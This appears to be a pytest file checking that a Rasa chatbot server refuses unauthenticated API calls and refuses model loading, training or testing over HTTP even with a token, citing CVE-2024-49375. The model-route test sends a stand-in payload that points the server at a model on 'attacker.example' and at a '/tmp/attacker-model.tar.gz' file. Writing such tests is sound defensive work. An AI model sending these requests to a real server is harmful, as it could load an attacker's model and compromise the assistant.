"""The Rasa server's HTTP API against the running assistant: nothing without the token, and no
model is loaded, trained or tested over HTTP even with it (CVE-2024-49375 is on that path)."""
from __future__ import annotations

import json
import urllib.error
import urllib.request
from urllib.parse import urlencode

import pytest

from bot.cli.harness import new_test_phone_number


def call(url: str, method: str = "GET", body: dict | None = None) -> int:
    request = urllib.request.Request(
        url, data=json.dumps(body).encode() if body is not None else None, method=method,
        headers={"Content-Type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status
    except urllib.error.HTTPError as refused:
        return refused.code


def with_token(url: str, token: str) -> str:
    return f"{url}?{urlencode({'token': token})}"


@pytest.fixture(scope="module")
def seeker(assistant):
    """Someone who has talked to the assistant, whose conversation an attacker wants."""
    conversation = assistant.conversation()
    assert "first name" in conversation.say("hi, i need work in IT")
    return conversation.sender


@pytest.mark.parametrize("token", [None, "", "wrong-token"])
def test_a_conversation_is_not_read_without_the_token(assistant, seeker, token):
    url = f"{assistant.rasa_url}/conversations/{seeker}/tracker"
    assert call(url if token is None else with_token(url, token)) == 401
    assert call(with_token(url, assistant.rasa_api_token)) == 200


@pytest.mark.parametrize("token", [None, "wrong-token"])
def test_nobody_speaks_for_a_seeker_through_the_rest_channel_without_the_token(assistant, token):
    sender = new_test_phone_number()
    url = f"{assistant.rasa_url}/webhooks/rest/webhook"
    status = call(url if token is None else with_token(url, token), "POST", {"sender": sender, "message": "hi"})
    assert status == 401
    assert assistant.store.find_seeker("rest", sender) is None


@pytest.mark.parametrize(
    "method, path",
    [
        ("PUT", "/model"),
        ("DELETE", "/model"),
        ("POST", "/model/train"),
        ("POST", "/model/test/intents"),
        ("POST", "/model/test/stories"),
    ],
)
def test_the_model_cannot_be_changed_or_loaded_over_http_even_with_the_token(assistant, method, path):
    url = f"{assistant.rasa_url}{path}"
    body = {"model_file": "/tmp/attacker-model.tar.gz"} if method == "PUT" else {}
    assert call(with_token(url, assistant.rasa_api_token) + "&model=http://attacker.example/m.tar.gz", method, body) == 403
    assert call(url, method, body) == 403
    assert assistant.parse("hi")["intent"]["name"]  # the loaded model still answers


def test_the_health_route_answers_without_the_token(assistant):
    assert call(f"{assistant.rasa_url}/") == 200
